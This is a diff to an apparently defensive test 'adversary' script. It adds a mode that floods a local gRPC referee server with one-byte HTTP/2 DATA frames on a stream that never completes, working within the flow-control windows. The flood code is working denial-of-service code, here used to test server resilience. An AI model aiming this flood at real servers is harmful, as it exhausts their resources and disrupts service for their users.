@@ -6,6 +6,9 @@ attack.json "flood":
   ping          PING frames on one connection, as fast as it can write them
   settings      SETTINGS frames (each one the referee must acknowledge)
   continuation  one HEADERS frame without END_HEADERS, then CONTINUATION frames forever
+  data          a Play stream whose first message announces 1 MB and never completes:
+                its bytes one per DATA frame (10 bytes on the wire for 1 byte of
+                message), as fast as the referee's flow-control window lets
 """
 
 from __future__ import annotations
@@ -20,7 +23,7 @@ import h2.config
 import h2.connection
 import h2.settings
 from adversary import Adversary, main, report
-from hyperframe.frame import ContinuationFrame, HeadersFrame
+from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 PATH = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
@@ -67,10 +70,61 @@ def flood_frames(until: float) -> str:
     return f"sent {sent} {FLOOD} frames, cut off {cut} times"
 
 
+GRPC_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "x"),
+                (":path", "/arena.v1.Referee/Play"), ("content-type", "application/grpc"),
+                ("te", "trailers")]
+
+
+def flood_data(s: socket.socket, conn: h2.connection.H2Connection, until: float) -> int:
+    """One-byte DATA frames within the windows the referee grants (WINDOW_UPDATE)."""
+    import h2.events
+
+    conn.send_headers(1, GRPC_HEADERS)
+    s.sendall(conn.data_to_send())
+    s.sendall(DataFrame(1, data=b"\0" + (1_000_000).to_bytes(4, "big")).serialize())
+    stream = connection = 65535 - 5
+    one = DataFrame(1, data=b"\0").serialize()
+    s.setblocking(False)
+    sent = 0
+    while time.monotonic() < until:
+        n = min(stream, connection, 4096)
+        if n > 0:
+            s.setblocking(True)
+            s.sendall(one * n)
+            s.setblocking(False)
+            stream, connection, sent = stream - n, connection - n, sent + n
+        try:
+            data = s.recv(65536)
+        except BlockingIOError:
+            if n <= 0:
+                time.sleep(0.001)
+            continue
+        if not data:
+            raise OSError("closed by the referee")
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.WindowUpdated):
+                if event.stream_id == 0:
+                    connection += event.delta
+                elif event.stream_id == 1:
+                    stream += event.delta
+            elif isinstance(event, h2.events.RemoteSettingsChanged):
+                changed = event.changed_settings.get(h2.settings.SettingCodes.INITIAL_WINDOW_SIZE)
+                if changed is not None:
+                    stream += changed.new_value - changed.original_value
+        out = conn.data_to_send()
+        if out:
+            s.setblocking(True)
+            s.sendall(out)
+            s.setblocking(False)
+    return sent
+
+
 def flood_one(until: float) -> int:
     s, conn = opened()
     sent = 0
     try:
+        if FLOOD == "data":
+            return flood_data(s, conn, until)
         if FLOOD == "continuation":
             conn.send_headers(1, [(":method", "POST"), (":scheme", "http"), (":authority", "x"),
                                   (":path", "/arena.v1.Referee/Play"), ("content-type", "application/grpc")])
